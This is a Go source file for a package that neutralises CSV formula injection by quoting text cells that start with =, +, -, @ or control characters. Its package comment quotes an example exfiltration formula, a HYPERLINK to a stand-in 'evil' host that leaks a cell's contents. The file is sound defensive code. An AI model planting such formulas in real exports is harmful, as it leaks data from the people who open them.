// Package csvsafe writes CSV that spreadsheets open as data, never as formulas.
//
// Excel, LibreOffice and Google Sheets run a cell that starts with =, +, - or @
// as a formula (and some strip a leading tab or carriage return first), so a
// group, user or job name such as `=HYPERLINK("http://evil/?"&A1)` in a download
// would run on a finance officer's machine (CSV injection). Following OWASP's
// advice (https://owasp.org/www-community/attacks/CSV_Injection), every text
// cell that starts with one of those characters is written with a single quote
// in front, which spreadsheets show as text and hide the quote of. Numbers are
// left as they are, so that -12.50 in an amount column stays a number.
//
// Every CSV the application writes goes through Writer: the finance export,
// statement CSVs, dashboard and leaderboard downloads, the API's CSV and
// `parsimony report --format csv`.
package csvsafe

import (
	"encoding/csv"
	"fmt"
	"io"
)

// triggers are the first characters that make a spreadsheet read a cell as a
// formula: OWASP's list, and the full-width forms some spreadsheets (in East
// Asian locales) normalise to the ASCII ones.
func trigger(r rune) bool {
	switch r {
	case '=', '+', '-', '@', '\t', '\r', '\n',
		'＝', '＋', '－', '＠':
		return true
	}
	return false
}

// Text returns s as a safe text cell: with a single quote in front when it
// starts with a formula trigger, otherwise unchanged.
func Text(s string) string {
	for _, r := range s {
		if trigger(r) {
			return "'" + s
		}
		break
	}
	return s
}

// Number returns s unchanged when it is a plain number (an optional sign,
// digits with optional thousands commas and a decimal part, an optional
// exponent or trailing percent sign), and as Text otherwise: a numeric column
// that somehow holds text is still neutralised.
func Number(s string) string {
	if IsNumber(s) {
		return s
	}
	return Text(s)
}

// IsNumber reports whether s is a plain number as Number keeps it: -12.50,
// +3, 1,234.5, 1e-9, 12%.
func IsNumber(s string) bool {
	i, n := 0, len(s)
	if i < n && (s[i] == '-' || s[i] == '+') {
		i++
	}
	digits := 0
	for ; i < n && (isDigit(s[i]) || (s[i] == ',' && digits > 0)); i++ {
		if isDigit(s[i]) {
			digits++
		}
	}
	if i < n && s[i] == '.' {
		for i++; i < n && isDigit(s[i]); i++ {
			digits++
		}
	}
	if digits == 0 {
		return false
	}
	if i < n && (s[i] == 'e' || s[i] == 'E') {
		i++
		if i < n && (s[i] == '-' || s[i] == '+') {
			i++
		}
		exp := 0
		for ; i < n && isDigit(s[i]); i++ {
			exp++
		}
		if exp == 0 {
			return false
		}
	}
	if i < n && s[i] == '%' {
		i++
	}
	return i == n
}

func isDigit(b byte) bool { return b >= '0' && b <= '9' }

// Writer is a csv.Writer that neutralises every cell: as Number in the columns
// marked numeric, as Text in all others.
type Writer struct {
	cw      *csv.Writer
	numeric []bool
	rec     []string
}

// NewWriter writes CSV to w; numeric[i] marks column i as holding numbers
// (columns past its end are text).
func NewWriter(w io.Writer, numeric []bool) *Writer {
	return &Writer{cw: csv.NewWriter(w), numeric: numeric}
}

// Columns marks the columns of header named in numeric as numeric, for
// NewWriter. It fails on a name the header lacks, so that a renamed column is
// noticed rather than silently written as text.
func Columns(header []string, numeric ...string) ([]bool, error) {
	out := make([]bool, len(header))
	for _, name := range numeric {
		found := false
		for i, h := range header {
			if h == name {
				out[i], found = true, true
			}
		}
		if !found {
			return nil, fmt.Errorf("csv column %q is not in the header", name)
		}
	}
	return out, nil
}

// Write writes one record, each cell neutralised. The record itself is not
// changed.
func (w *Writer) Write(record []string) error {
	w.rec = w.rec[:0]
	for i, c := range record {
		if i < len(w.numeric) && w.numeric[i] {
			w.rec = append(w.rec, Number(c))
		} else {
			w.rec = append(w.rec, Text(c))
		}
	}
	return w.cw.Write(w.rec)
}

// Flush writes any buffered data to the underlying writer and returns the
// first error a Write or the Flush met.
func (w *Writer) Flush() error {
	w.cw.Flush()
	return w.cw.Error()
}
